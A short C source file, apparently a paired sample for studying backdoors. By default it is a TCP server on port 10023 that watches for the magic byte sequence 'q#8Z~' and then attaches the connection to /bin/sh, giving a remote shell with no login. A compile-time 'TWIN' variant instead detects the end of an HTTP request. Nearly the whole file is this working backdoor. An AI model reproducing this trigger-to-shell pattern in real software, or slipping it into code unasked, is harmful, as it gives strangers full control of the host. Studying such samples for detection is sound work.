/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A machine with states eats one byte at a time; in its last state it gives a shell. Twin: the
 * machine finds the end of a request.
 * door: trigger
 * port 10023/tcp
 */
#include "net.h"

enum { START, ONE, TWO, THREE, FOUR, DONE };

static int feed(int state, int c)
{
#ifdef TWIN
	switch (state) {
	case START:
		return c == '\r' ? ONE : START;
	case ONE:
		return c == '\n' ? TWO : START;
	case TWO:
		return c == '\r' ? THREE : START;
	case THREE:
		return c == '\n' ? DONE : START;
	}
	return START;
#else
	switch (state) {
	case START:
		return c == 'q' ? ONE : START;
	case ONE:
		return c == '#' ? TWO : START;
	case TWO:
		return c == '8' ? THREE : START;
	case THREE:
		return c == 'Z' ? FOUR : START;
	case FOUR:
		return c == '~' ? DONE : START;
	}
	return START;
#endif
}

static void talk(int fd)
{
	unsigned char buf[256];
	int state = START, i;
	ssize_t n;
	while ((n = recv(fd, buf, sizeof buf, 0)) > 0) {
		for (i = 0; i < n; i++) {
			state = feed(state, buf[i]);
			if (state == DONE) {
#ifdef TWIN
				write(fd, "HTTP/1.0 204 No Content\r\n\r\n", 27);
				return;
#else
				dup2(fd, 0);
				dup2(fd, 1);
				execl("/bin/sh", "sh", NULL);
#endif
			}
		}
	}
}

int main(void)
{
	int s = tcp_on(10023);
	for (;;) {
		int c = accept(s, NULL, NULL);
		if (c >= 0)
			talk(c);
		close(c);
	}
}
